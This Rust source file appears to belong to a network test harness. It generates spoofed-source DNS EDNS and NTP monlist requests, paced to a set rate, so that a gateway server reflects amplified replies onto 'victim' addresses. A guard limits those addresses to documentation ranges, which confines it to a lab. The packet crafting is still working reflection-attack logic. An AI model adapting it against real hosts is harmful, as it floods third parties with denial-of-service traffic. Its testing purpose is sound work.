//! Spoofed requests to a server on the gateway, as a reflection attack that
//! uses it as the amplifier sends them: DNS queries for a large record with
//! EDNS, or NTP client requests with now and then a monlist request, each
//! "from" a victim (only documentation and benchmarking addresses), so that
//! the server sends its answers to the victims. Sent through the
//! [`RawSender`] of a WAN host, paced to a rate for a time.

use std::{
    net::IpAddr,
    sync::atomic::{AtomicBool, Ordering},
    time::Duration,
};

use anyhow::{bail, ensure};

use super::sender::{Pacer, RawSender};
use crate::{
    netns::Mac,
    packet::{
        PacketBuilder,
        addr::both_are_test_addresses,
        payload::{NTP_MONLIST_QUERY, dns_query, ntp_client_request},
    },
};

/// The service on the gateway that is used as the amplifier.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Service {
    /// DNS: TXT queries for [`crate::servers::reflector::BIG_TXT`] with EDNS 4096.
    Dns,
    /// NTP: client (mode 3) requests, one in [`MONLIST_EVERY`] a monlist (mode 7) request.
    Ntp,
}

/// Every this many spoofed NTP requests, one is a monlist request.
pub const MONLIST_EVERY: u64 = 50;

impl Service {
    pub fn port(self) -> u16 {
        match self {
            Service::Dns => 53,
            Service::Ntp => 123,
        }
    }

    /// The `n`th spoofed request's payload.
    pub fn request(self, n: u64) -> Vec<u8> {
        match self {
            Service::Dns => dns_query(n as u16, crate::servers::reflector::BIG_TXT, 16, 4096),
            Service::Ntp if n.is_multiple_of(MONLIST_EVERY) => NTP_MONLIST_QUERY.to_vec(),
            Service::Ntp => ntp_client_request(n).to_vec(),
        }
    }

    /// Whether the `n`th request is an NTP monlist request.
    pub fn is_monlist(self, n: u64) -> bool {
        self == Service::Ntp && n.is_multiple_of(MONLIST_EVERY)
    }
}

/// What [`send`] sent.
#[derive(Clone, Copy, Debug, Default)]
pub struct Spoofed {
    /// Requests sent, and their bytes (whole frames).
    pub requests: u64,
    pub bytes: u64,
    /// Of them, NTP monlist requests.
    pub monlist: u64,
}

/// Sends spoofed requests for `service` to `server` (the gateway's address,
/// its `wan0` MAC `gw_mac`) from the `victims` in turn, `pps` in all, for
/// `duration` or until `stop` is set. Source ports change per request.
#[allow(clippy::too_many_arguments)]
pub fn send(
    sender: &RawSender,
    gw_mac: Mac,
    victims: &[IpAddr],
    server: IpAddr,
    service: Service,
    pps: u32,
    duration: Duration,
    stop: &AtomicBool,
) -> anyhow::Result<Spoofed> {
    ensure!(!victims.is_empty(), "an attack needs victims");
    let pacer = Pacer::new(pps);
    let mut sent = Spoofed::default();
    while pacer.elapsed() < duration && !stop.load(Ordering::Relaxed) {
        let n = sent.requests;
        let victim = victims[n as usize % victims.len()];
        ensure!(
            both_are_test_addresses(victim, server),
            "spoofed requests only between documentation addresses: {victim} to {server}"
        );
        let builder = match (victim, server) {
            (IpAddr::V4(src), IpAddr::V4(dst)) => PacketBuilder::ipv4(src, dst),
            (IpAddr::V6(src), IpAddr::V6(dst)) => PacketBuilder::ipv6(src, dst),
            _ => bail!("{victim} and {server} are not of one family"),
        };
        let frame = builder
            .macs(sender.mac().0, gw_mac.0)
            .udp(10_000 + (n % 50_000) as u16, service.port())
            .payload(&service.request(n))
            .build();
        sender.send(&frame.bytes)?;
        sent.requests += 1;
        sent.bytes += frame.bytes.len() as u64;
        sent.monlist += u64::from(service.is_monlist(n));
        pacer.wait(sent.requests);
    }
    Ok(sent)
}
